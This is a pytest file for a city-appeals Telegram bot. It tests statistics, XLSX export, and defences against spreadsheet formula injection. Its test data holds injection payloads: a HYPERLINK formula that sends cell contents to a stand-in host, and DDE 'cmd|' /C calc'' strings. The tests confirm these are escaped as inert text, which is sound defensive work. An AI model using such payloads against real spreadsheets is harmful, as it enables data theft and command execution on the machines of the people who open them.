"""/stats and /export, from the repository up; and the commands over HTTP."""

from __future__ import annotations

import io
import os
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from bot.domain.catalog import Catalog
from bot.domain.reports import ExportPeriod
from bot.services.report_jobs import build_export, build_stats
from bot.services.reports import compute_stats, parse_days, period_appeals
from bot.views.card import initials
from bot.views.my_appeals import status_label
from bot.views.reports import appeal_columns, booking_columns, export_xlsx, inert, render_stats
from i18n.core import PoI18n
from storage.base import Repository
from storage.models import Status
from storage.reports import EVERYTHING, PeriodAppeal
from tests.backends import NAMES, backend_for, beside
from tests.conftest import ALMATY, OFFICIALS, Harness
from tests.report_hooks import recorded
from tests.test_bookings import book
from tests.test_e2e_appeal import NAME, name_phone_address, onboard
from tests.test_storage import NOW, new_appeal

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# A citizen's text that Excel would run: a link that sends the neighbouring cells away.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&X2&Y2,"Подробнее")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"

# The store and the reports over it on each backend (the e2e tests on SQLite).
pytestmark = pytest.mark.every_backend


@pytest.mark.parametrize(
    ("args", "days"), [(None, 30), ("", 30), ("7", 7), (" 366 ", 366), ("0", None),
                       ("367", None), ("-1", None), ("seven", None), ("٣", None)],
)  # fmt: skip
def test_parse_days(args: str | None, days: int | None) -> None:
    assert parse_days(args) == days


async def seed(repo: Repository) -> None:
    for i in range(4):
        await repo.create_appeal(
            new_appeal(f"r{i}", category="roads" if i < 3 else "health",
                       created_at=NOW - timedelta(days=i))
        )  # fmt: skip
    await repo.create_appeal(new_appeal("old", created_at=NOW - timedelta(days=40)))
    # The first appeal: taken after 2 hours, answered after 1 day, in time, rated 4.
    await repo.transition(1, frozenset({Status.REGISTERED}), Status.IN_PROGRESS, "official:9",
                          NOW + timedelta(hours=2))  # fmt: skip
    await repo.transition(1, frozenset({Status.IN_PROGRESS}), Status.ANSWERED, "official:9",
                          NOW + timedelta(days=1), answered_at=NOW + timedelta(days=1),
                          rating=4, answer_text="Сделано")  # fmt: skip


async def test_stats_for_a_period(repo: Repository, catalog: Catalog) -> None:
    await seed(repo)
    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
    stats = compute_stats(rows, 30)
    assert stats.total == 4  # the 40-day-old one is outside
    assert dict(stats.by_category) == {"roads": 3, "health": 1}
    assert stats.median_first_action == timedelta(hours=2)
    assert stats.median_answer == timedelta(days=1)
    assert (stats.answered, stats.answered_in_time) == (1, 1)
    assert stats.average_rating == 4
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale("ru"):
        text = render_stats(stats, catalog, "ru")
    assert "Дороги" in text and "4" in text and "2 часа" in text


PERIOD = ExportPeriod(appeals=(date(2026, 10, 24), date(2026, 11, 23)),
                      bookings=(date(2026, 10, 24), date(2026, 12, 24)))  # fmt: skip


def headers(lang: str = "ru") -> dict[str, str]:
    """Field → header of both sheets, as the officials read them in `lang`."""
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale(lang):
        return dict(booking_columns()) | dict(appeal_columns())


def booking_headers(lang: str = "ru") -> dict[str, str]:
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale(lang):
        return dict(booking_columns())


async def test_export_is_a_spreadsheet_with_every_appeal(
    repo: Repository, catalog: Catalog
) -> None:
    await seed(repo)
    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale("ru"):
        content = export_xlsx(rows, catalog, "ru", ALMATY, PERIOD)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    for reference in ("2026-00001", "2026-00004"):
        assert reference in strings
    assert "2026-00005" not in strings
    assert "Дороги" in strings and "roads" not in strings and "Сделано" in strings
    assert sheet.count("<row ") == 6  # title + header + 4 appeals


async def test_stats_and_export_in_the_officials_chat(harness: Harness, tmp_path: Path) -> None:
    h = harness
    # At a city's volume both are seconds of Python: they run in another process, never on
    # the event loop (nor in a thread of the bot, which still held the GIL).
    reports = h.app.dp["reports"]
    reports.stats_job = partial(recorded, tmp_path, build_stats)
    reports.export_job = partial(recorded, tmp_path, build_export)
    await h.app.repo.create_appeal(new_appeal("e1", created_at=datetime.now(UTC)))
    reports.clock = lambda: datetime.now(UTC) + timedelta(minutes=1)
    since = h.fake.mark()
    h.fake.group_message(OFFICIALS, 900, "/stats 7")
    stats = await h.fake.wait_for(
        lambda c: (
            c.method == "sendMessage"
            and h.fake.chat_of(c) == OFFICIALS
            and "Дороги" in (c.text or "")
        ),
        since=since,
    )
    assert "7" in (stats.text or "") and "Дороги" in (stats.text or "")
    since = h.fake.mark()
    h.fake.group_message(OFFICIALS, 900, "/export 7")
    document = await h.fake.wait_for(lambda c: c.method == "sendDocument", since=since)
    assert document.params["document"]["filename"].endswith("-7d.xlsx")
    assert document.params["document"]["size"] > 1000
    workers = {
        int((tmp_path / f"{name}.pid").read_text()) for name in ("build_stats", "build_export")
    }
    assert os.getpid() not in workers


@dataclass(frozen=True)
class Cell:
    kind: str  # the t attribute: "s" shared string, "n" (or "") number, "b", "str" formula
    value: str
    formula: str | None


def sheet_cells(content: bytes, sheet: int = 1) -> dict[str, Cell]:
    """Every cell of a worksheet by its reference (A1…), as the file stores it."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared_xml = book.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in \
            book.namelist() else b"<sst/>"  # fmt: skip
        sheet_xml = book.read(f"xl/worksheets/sheet{sheet}.xml")
    shared = [
        "".join(t.text or "" for t in si.iter(f"{MAIN}t"))
        for si in ElementTree.fromstring(shared_xml).iter(f"{MAIN}si")
    ]
    cells = {}
    for c in ElementTree.fromstring(sheet_xml).iter(f"{MAIN}c"):
        kind = c.get("t", "n")
        v, f = c.find(f"{MAIN}v"), c.find(f"{MAIN}f")
        value = v.text or "" if v is not None else ""
        cells[c.get("r", "")] = Cell(
            kind, shared[int(value)] if kind == "s" else value, f.text if f is not None else None
        )
    return cells


def column_of(cells: dict[str, Cell], header: str) -> str:
    """The column letters of a header in row 2 (row 1 is the sheet's title)."""
    for ref, cell in cells.items():
        if ref[:-1].isalpha() and ref[-1:] == "2" and cell.value == header:
            return ref[:-1]
    raise AssertionError(f"no column {header!r}")


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        (DDE, "'" + DDE),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),
        # Only digits and signs: arithmetic at worst, so a phone stays as typed.
        ("+77011234567", "+77011234567"),
        ("-5", "-5"),
        ("+7 (701) 234-56-78", "+7 (701) 234-56-78"),
        ("+7 7•• ••• •• 45", "+7 7•• ••• •• 45"),  # masked by the export
        # Not at the start: plain text.
        ("Яма = беда, см. @akimat", "Яма = беда, см. @akimat"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)  # fmt: skip
def test_inert_makes_formula_starts_text(typed: str, written: str) -> None:
    assert inert(typed) == written


@pytest.mark.parametrize("full", [True, False])
async def test_export_writes_every_typed_value_as_inert_text(
    repo: Repository, catalog: Catalog, full: bool
) -> None:
    """Every field a person typed, in both sheets, with contacts full or masked: strings,
    never formulas; our own dates and numbers stay real ones."""
    await repo.create_appeal(
        new_appeal("f1", text=HYPERLINK, contact_name="=cmd|' /C calc'!A0",
                   contact_phone="+77012345678")
    )  # fmt: skip
    await repo.transition(
        1, frozenset({Status.REGISTERED}), Status.ANSWERED, "official:9",
        NOW + timedelta(hours=5), answered_at=NOW + timedelta(hours=5), rating=2,
        answer_text="-1+A1", answered_by_name="@Official", taken_by_name="+Taker",
    )  # fmt: skip
    await repo.update_fields(1, feedback="=IMPORTXML(1)", extension_reason="=WEBSERVICE(1)")
    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
    booking = {
        "reception": "akim", "session_day": "2026-11-25",
        "slot_start": "2026-11-25T05:00:00+00:00", "status": "booked",
        "access": '["wheelchair"]', "access_other": "=1+2", "topic": DDE,
        "appeal_reference": None, "contact_name": "-Name+A1", "contact_phone": "+77012345678",
        "language": "ru", "created_at": "2026-11-23T05:00:00+00:00", "cancelled_at": None,
    }  # fmt: skip
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale("ru"):
        content = export_xlsx(rows, catalog, "ru", ALMATY, PERIOD, [booking], full=full)
    appeals, bookings = sheet_cells(content, 1), sheet_cells(content, 2)
    assert not [c for c in [*appeals.values(), *bookings.values()] if c.formula is not None]
    names = headers()

    def at(cells: dict[str, Cell], field: str, sheet_names: dict[str, str] = names) -> Cell:
        return cells[f"{column_of(cells, sheet_names[field])}3"]

    expected = {
        "text": "'" + HYPERLINK, "answer_text": "'-1+A1",
        "answered_by_name": "'@Official", "taken_by_name": "'+Taker",
        "feedback": "'=IMPORTXML(1)", "extension_reason": "'=WEBSERVICE(1)",
        # Masked, the initials of a name typed as a formula still start with its sign.
        "contact_name": "'=cmd|' /C calc'!A0" if full else "'=. /.",
        "contact_phone": "+77012345678" if full else "+7 7•• ••• •• 78",
    }  # fmt: skip
    assert {h: (at(appeals, h).kind, at(appeals, h).value) for h in expected} == {
        h: ("s", v) for h, v in expected.items()
    }
    expected = {"access_other": "'=1+2", "topic": "'" + DDE,
                "contact_name": "'-Name+A1" if full else "-.",  # signs only: inert
                "contact_phone": "+77012345678" if full else "+7 7•• ••• •• 78"}  # fmt: skip
    in_bookings = booking_headers()
    assert {
        h: (at(bookings, h, in_bookings).kind, at(bookings, h, in_bookings).value) for h in expected
    } == {h: ("s", v) for h, v in expected.items()}
    # Dates and numbers we generate: real ones (serial days, not text).
    assert at(appeals, "rating") == Cell("n", "2", None)
    for field in ("created_at", "registered_on", "due_at", "answered_at"):
        assert at(appeals, field).kind == "n" and float(at(appeals, field).value) > 46000
    for field in ("session_day", "slot_start", "created_at"):
        cell = at(bookings, field, in_bookings)
        assert cell.kind == "n" and float(cell.value) > 46000


async def test_export_over_http_carries_no_formula(harness: Harness) -> None:
    """A citizen whose text and postal address start with a formula files an appeal; an
    official named like one takes it; the workbook /export sends has no formula, only inert
    text."""
    h = harness
    citizen, official = 611, 900
    await onboard(h, citizen, "ru")
    kinds = await h.say(citizen, "/new")
    categories = await h.click(citizen, kinds, "Заявление")
    await h.click(citizen, categories, "Другое")
    await h.say(citizen, "Шымкент", expect="Шымкент")
    since = h.fake.mark()
    h.fake.user_message(citizen, "Каратау")
    await h.reply(citizen, since, expect="3500")
    files = await h.say(citizen, HYPERLINK)
    location = await h.press(citizen, files, h.fake.buttons(files)[0][1] or "")
    await h.say(citizen, h.fake.buttons(location)[1][0], expect="фамилия, имя")
    review = await name_phone_address(h, citizen, "+77015556677", address="=cmd|' /C calc'!A0")
    await h.confirm(citizen, review, "✅", expect="2026-00001")
    card = await h.fake.wait_for(
        lambda c: c.method == "sendMessage" and h.fake.chat_of(c) == OFFICIALS
        and "2026-00001" in (c.text or "")
    )  # fmt: skip
    since = h.fake.mark()
    h.fake.press(official, card, h.fake.find_button(card, "▶️"), first_name="@SUM(1)")
    await h.fake.wait_for(lambda c: c.method == "editMessageText", since=since)
    h.app.dp["reports"].clock = lambda: h.clock() + timedelta(minutes=1)

    since = h.fake.mark()
    h.fake.group_message(OFFICIALS, official, "/export 7")
    document = await h.fake.wait_for(lambda c: c.method == "sendDocument", since=since)
    cells = sheet_cells(h.fake.uploaded(document))
    names = headers()
    assert [c for c in cells.values() if c.formula is not None] == []
    assert cells[f"{column_of(cells, names['text'])}3"] == Cell("s", "'" + HYPERLINK, None)
    assert cells[f"{column_of(cells, names['taken_by_name'])}3"].value == "'@SUM(1)"
    # Contacts are masked in a group's file, the address for a written answer included.
    assert cells[f"{column_of(cells, names['contact_name'])}3"].value == initials(NAME)
    assert cells[f"{column_of(cells, names['contact_phone'])}3"].value == "+7 7•• ••• •• 77"
    assert cells[f"{column_of(cells, names['contact_address'])}3"].value == "•••"
    # Whole, as an administrator's `/export full` has them: the typed address stays inert.
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale("ru"):
        exported = await h.app.dp["reports"].export(
            7, EVERYTHING, "ru", workbook=export_xlsx, full_contacts_for=official
        )
        content = exported.content
    cells = sheet_cells(content)
    assert [c for c in cells.values() if c.formula is not None] == []
    assert cells[f"{column_of(cells, names['contact_address'])}3"].value == "'=cmd|' /C calc'!A0"
    assert cells[f"{column_of(cells, names['contact_name'])}3"].value == NAME
    assert cells[f"{column_of(cells, names['contact_phone'])}3"].value == "+77015556677"


async def test_a_forward_to_another_body_is_labelled_as_the_card_labels_it(
    repo: Repository, catalog: Catalog
) -> None:
    """The workbook says "another body" for a department marked external, as the card and
    the citizen's notice do, and "the competent department" for the akimat's own."""
    from dataclasses import replace

    from bot.domain.catalog import Department
    from bot.views.reports import appeal_cells

    own = Department("employment", "Жұмыспен қамту бөлімі", "Отдел занятости", -1)
    body = Department("prosecutor", "Облыстық прокуратура", "Прокуратура области", -2, True)
    with_both = replace(catalog, departments=(own, body))
    for key, code in (("a", "employment"), ("b", "prosecutor")):
        appeal, _ = await repo.create_appeal(new_appeal(key))
        await repo.transition(appeal.id, frozenset({Status.REGISTERED}), Status.FORWARDED,
                              "official:9", NOW, department=code)  # fmt: skip
    rows = await period_appeals(beside("reports", repo), 30, NOW + timedelta(days=2))
    i18n = PoI18n()
    with i18n.context(), i18n.use_locale("ru"):
        labels = [appeal_cells(r, with_both, "ru", ALMATY, full=False)["status"] for r in rows]
        expected = [status_label(Status.FORWARDED), status_label(Status.FORWARDED, external=True)]
    assert labels == expected and expected[0] != expected[1]


async def test_both_backends_hand_the_views_the_same_rows(
    postgres_missing: str | None, tmp_path: Path
) -> None:
    """The report views read the rows as SQLite stores them (storage/postgres/reports.py):
    PostgreSQL's come out the same, column for column."""
    if postgres_missing:
        pytest.skip(postgres_missing)
    found: dict[str, tuple[list[PeriodAppeal], list[dict[str, Any]]]] = {}
    for name in NAMES:
        async with backend_for(name, tmp_path) as backend:
            repo = backend.repository(await backend.open())
            await seed(repo)
            await repo.update_fields(2, feedback="Жарық жоқ", solved="no", department="akim")
            place = datetime(2026, 11, 25, 10, tzinfo=ALMATY)
            await book(beside("bookings", repo), 1, place, draft_key="b")
            queries = beside("reports", repo)
            found[name] = (
                await queries.period(NOW - timedelta(days=30), NOW + timedelta(days=2)),
                await queries.bookings("2026-11-01", "2026-11-30"),
            )
    assert found["postgres"] == found["sqlite"]
    appeals, bookings = found["sqlite"]
    assert len(appeals) == 4 and len(bookings) == 1
